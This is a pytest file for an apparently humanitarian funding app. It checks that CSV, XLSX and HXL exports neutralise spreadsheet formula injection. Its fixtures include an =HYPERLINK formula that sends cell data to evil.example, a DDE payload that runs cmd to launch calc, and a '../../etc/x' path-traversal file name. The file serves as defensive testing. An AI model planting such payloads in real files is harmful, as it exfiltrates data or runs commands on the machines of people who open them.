"""Exports neutralise formula injection through the one helper in core.tabular
(issue 9, item 11): a hostile organisation name or description leaves every
download (HXL, CSV, XLSX) as text a spreadsheet does not run, and the HXL export
still imports back unchanged."""

from __future__ import annotations

import io
from collections.abc import Callable

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from puente.coordination import service as coordination
from puente.core.tabular import neutralise, restore, table_file, to_hxl
from puente.financing import service
from puente.financing.models import FundingOrganisation
from puente.identity import Role
from tests.financing.conftest import role_actor

HOSTILE_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
HEADER = (
    "reference,date,status,source_organisation,destination_organisation,plan,"
    "country,sector,amount,currency,amount_usd,description\n"
)
Login = Callable[[TestClient, str], TestClient]


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _plant(session: Session) -> None:
    # An organisation that got a hostile name into the directory (as if typed).
    model = session.scalars(select(FundingOrganisation)).first()
    assert model is not None
    session.add(
        FundingOrganisation(
            name=HOSTILE_ORG,
            name_key=HOSTILE_ORG.casefold(),
            kind=model.kind,
            tenant_code=model.tenant_code,
        )
    )
    session.flush()
    row = (
        f"INJ-1,2024-02-01,pledge,{_quoted(HOSTILE_ORG)},UNHCR,RMRP-2024,COL,"
        f"protection,1000,USD,1000,{_quoted(HOSTILE_TEXT)}\n"
    )
    summary = service.import_flows(
        session,
        actor=role_actor(Role.COORDINATOR),
        data=(HEADER + row).encode(),
        file_name="hostile.csv",
    )
    assert summary.created == 1


def test_every_dangerous_start_is_neutralised_and_restored() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", " ", "|", "＝"):
        cell = neutralise(start + "1+1")
        assert cell.startswith("'")
        assert restore(cell) == start + "1+1"
    assert neutralise("UNHCR") == "UNHCR"
    assert restore("'quoted") == "'quoted"  # not ours: kept


def test_the_hxl_export_neutralises_and_imports_back(demo_session: Session) -> None:
    _plant(demo_session)
    exported = service.flows_hxl(demo_session, actor=role_actor(Role.ANALYST))
    line = next(row for row in exported.splitlines() if row.startswith("INJ-1,"))
    assert "'=HYPERLINK" in line
    assert "'@SUM" in line
    assert ",=" not in line
    assert ",@" not in line
    summary = service.import_flows(
        demo_session,
        actor=role_actor(Role.COORDINATOR),
        data=exported.encode(),
        file_name="export.csv",
    )
    assert summary.created == 0  # the apostrophe is ours: the names are unchanged
    assert summary.unchanged == exported.count("\n") - 2


def test_the_coordination_hxl_export_uses_the_same_helper(
    demo_session: Session,
) -> None:
    exported = coordination.reports_hxl(demo_session, actor=role_actor(Role.ANALYST))
    for row in exported.splitlines()[2:]:
        for cell in row.split(","):
            assert not cell.startswith(("=", "+", "@", "|")), row


def test_the_csv_and_xlsx_downloads_neutralise(
    client: TestClient, login_as: Login, demo_session: Session
) -> None:
    _plant(demo_session)
    login_as(client, "donor.can")
    answer = client.get("/financing/flows?download=csv")
    assert answer.status_code == 200, answer.text
    text = answer.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert '\n"=HYPERLINK' not in text
    assert ",=HYPERLINK" not in text
    sheet = client.get("/financing/flows?download=xlsx")
    assert sheet.status_code == 200
    book = load_workbook(io.BytesIO(sheet.content), read_only=True)
    active = book.active
    assert active is not None
    cells = [c for row in active.iter_rows(values_only=True) for c in row]
    assert any(isinstance(c, str) and c.startswith("'=HYPERLINK") for c in cells)
    assert not any(isinstance(c, str) and c.startswith("=") for c in cells)


def test_table_file_and_hxl_write_numbers_as_numbers() -> None:
    made = table_file("csv", "../../etc/x", ["n", "name"], [[-5, "-5"]])
    assert made.filename == "------etc-x.csv"
    assert made.body.decode("utf-8-sig").splitlines()[1] == "-5,'-5"
    assert to_hxl(["n"], ["#value"], [[-3]]).splitlines()[2] == "-3"
